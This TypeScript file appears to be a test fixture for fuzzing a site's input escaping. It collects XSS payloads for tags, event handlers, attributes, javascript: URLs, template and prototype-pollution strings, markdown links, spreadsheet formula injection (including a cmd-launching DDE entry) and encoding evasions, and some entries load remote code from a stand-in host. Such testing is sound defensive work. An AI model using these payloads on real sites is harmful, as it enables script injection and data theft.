/**
 * What somebody might write to make a page do something: each tries to set a mark on `window`,
 * to open a dialog, to fetch from elsewhere, or to break out of where it stands.
 */
const mark = 'window.struck=1';
const alarm = 'alert(1)';

const tags = [
	`<script>${mark}</script>`,
	`<script>${alarm}</script>`,
	`</script><script>${mark}</script>`,
	`</title><script>${mark}</script>`,
	`</textarea><script>${mark}</script>`,
	`</style><script>${mark}</script>`,
	`</noscript><script>${mark}</script>`,
	`<ScRiPt>${mark}</sCrIpT>`,
	`<script src=//struck.example/x.js></script>`,
	`<script type=module>${mark}</script>`,
	`<scr<script>ipt>${mark}</scr</script>ipt>`,
	`<script\u0000>${mark}</script>`,
	`<script/x>${mark}</script>`,
	`<!--><script>${mark}</script>-->`,
	`--><script>${mark}</script><!--`,
	`]]><script>${mark}</script>`,
	`<![CDATA[<script>${mark}</script>]]>`,
	`<?xml version="1.0"?><script>${mark}</script>`,
	`<xmp><script>${mark}</script></xmp>`,
	`<template><script>${mark}</script></template>`,
];
const handlers = [
	`<img src=x onerror=${mark}>`,
	`<img src=x onerror="${alarm}">`,
	`<img src=x:x onerror=${mark}//`,
	`<img src=//struck.example/a.gif>`,
	`<img srcset=//struck.example/b.gif>`,
	`<img/src/onerror=${mark}>`,
	`<IMG """><SCRIPT>${mark}</SCRIPT>">`,
	`<svg onload=${mark}>`,
	`<svg/onload=${mark}>`,
	`<svg><script>${mark}</script></svg>`,
	`<svg><animate onbegin=${mark} attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:${mark}"><text y=20>x</text></a>`,
	`<svg><use href="data:image/svg+xml,<svg id=x onload=${mark}>#x"/></svg>`,
	`<svg><foreignObject><img src=x onerror=${mark}></foreignObject></svg>`,
	`<math><mtext><img src=x onerror=${mark}></mtext></math>`,
	`<body onload=${mark}>`,
	`<body onpageshow=${mark}>`,
	`<video><source onerror=${mark}></video>`,
	`<audio src=x onerror=${mark}>`,
	`<details open ontoggle=${mark}>x</details>`,
	`<input autofocus onfocus=${mark}>`,
	`<select autofocus onfocus=${mark}>`,
	`<textarea autofocus onfocus=${mark}>`,
	`<marquee onstart=${mark}>x</marquee>`,
	`<div onpointerenter=${mark} style=position:fixed;inset:0>x</div>`,
	`<p tabindex=1 onfocus=${mark} autofocus>x</p>`,
	`<style onload=${mark}></style>`,
	`<style>@import '//struck.example/a.css';</style>`,
	`<style>*{background:url(//struck.example/c)}</style>`,
	`<link rel=stylesheet href=//struck.example/a.css>`,
	`<link rel=stylesheet href=x onerror=${mark}>`,
	`<iframe src="javascript:${mark}"></iframe>`,
	`<iframe srcdoc="<script>parent.struck=1</script>"></iframe>`,
	`<object data="javascript:${mark}"></object>`,
	`<object data="data:text/html,<script>${alarm}</script>"></object>`,
	`<embed src="javascript:${mark}">`,
	`<form action="javascript:${mark}"><button>x</button></form>`,
	`<form><button formaction="javascript:${mark}">x</button></form>`,
	`<base href="//struck.example/">`,
	`<meta http-equiv=refresh content="0;url=javascript:${mark}">`,
	`<meta http-equiv=refresh content="0;url=//struck.example/">`,
	`<a href="javascript:${mark}">按</a>`,
	`<a href="jav&#x09;ascript:${mark}">按</a>`,
	`<a href="data:text/html,<script>${alarm}</script>">按</a>`,
	`<dialog open onclose=${mark}>x</dialog>`,
	`<x contenteditable onblur=${mark} autofocus>x</x>`,
];
const attributes = [
	`" onmouseover=${mark} x="`,
	`' onmouseover=${mark} x='`,
	`" autofocus onfocus=${mark} x="`,
	`"><img src=x onerror=${mark}>`,
	`'><img src=x onerror=${mark}>`,
	'`-alert(1)-`',
	`" style="background:url(//struck.example/d)`,
	`javascript:${mark}`,
	`JaVaScRiPt:${mark}`,
	`java\tscript:${mark}`,
	`\u0001javascript:${mark}`,
	`data:text/html,<script>${alarm}</script>`,
	`vbscript:msgbox(1)`,
];
const templates = [
	`{{constructor.constructor('${mark}')()}}`,
	`\${${mark}}`,
	`#{${mark}}`,
	`<%= 7*7 %>`,
	`{@html '<img src=x onerror=${mark}>'}`,
	`{#if true}{${mark}}{/if}`,
	`{{7*7}}`,
	`[[\${7*7}]]`,
	`@(1+2)`,
	`*{7*7}`,
	`<astro-island uid=x component-url=//struck.example/x.js client=load></astro-island>`,
	`<!--[--><script>${mark}</script><!--]-->`,
	`<!--astro:end--><img src=x onerror=${mark}>`,
];
const code = [
	`';${mark};//`,
	`";${mark};//`,
	`\\";${mark};//`,
	`\\u003cscript\\u003e${mark}\\u003c/script\\u003e`,
	`\u2028${mark}\u2028`,
	`*/${mark}/*`,
	`"}]}</script><script>${mark}</script>`,
	`","__proto__":{"struck":1},"x":"`,
	`__proto__`,
	`constructor`,
	`]};${mark};//`,
	`\\`,
	`&quot;];${mark};//`,
];
const markdown = [
	`[按我](javascript:${mark})`,
	`![x](x"onerror="${mark})`,
	`<javascript:${mark}>`,
	`[x]: javascript:${mark}`,
	`\`\`\`<img src=x onerror=${mark}>\`\`\``,
	`$\\href{javascript:${mark}}{x}$`,
	`import x from '//struck.example/x.js'`,
];
const sheets = [
	`=cmd|'/c calc'!A0`,
	`=HYPERLINK("//struck.example";"按")`,
	`+1+1`,
	`-1+1`,
	`@SUM(1+1)`,
	`\t=1+1`,
	`\r=1+1`,
	`=IMPORTXML("//struck.example","//a")`,
];
const signs = [
	`\u202e<img src=x onerror=${mark}>`,
	`＜script＞${mark}＜/script＞`,
	`%3Cscript%3E${mark}%3C/script%3E`,
	`&lt;script&gt;${mark}&lt;/script&gt;`,
	`&#60;script&#62;${mark}&#60;/script&#62;`,
	`\u00bcscript\u00be${mark}\u00bc/script\u00be`,
	`+ADw-script+AD4-${mark}+ADw-/script+AD4-`,
	`<\u200bscript>${mark}</script>`,
	`<img src=x onerror\u000b=${mark}>`,
	`\ufeff<script>${mark}</script>`,
	`expression(${mark})`,
	`}*{background:url(//struck.example/e)}`,
	`;background:url(//struck.example/f)`,
];

export const payloads: readonly string[] = [
	...tags,
	...handlers,
	...attributes,
	...templates,
	...code,
	...markdown,
	...sheets,
	...signs,
];

/** Short enough for a name of twenty signs. */
export const shortPayloads: readonly string[] = [
	'<svg/onload=struck=1',
	'<b onclick=struck=1>',
	'"onload=struck=1 x="',
	"'-(window.struck=1)-",
	'</script><script>//',
	'{{struck=1}}',
	'${struck=1}',
	'=1+1',
	'@SUM(1)',
	'--><b>x',
	'</title><b>',
	'&lt;b&gt;',
	'__proto__',
	'javascript:struck=1',
	'{@html struck}',
	'\\u003cb>',
];

/** All of them, packed into as few texts as there is room for in fields of these lengths. */
export function packed(most: number, separator = ' '): string[] {
	const texts: string[] = [];
	let text = '';
	for (const payload of payloads.filter(({ length }) => length <= most)) {
		if (text.length + separator.length + payload.length > most) {
			texts.push(text);
			text = '';
		}
		text += (text === '' ? '' : separator) + payload;
	}
	return [...texts, text];
}
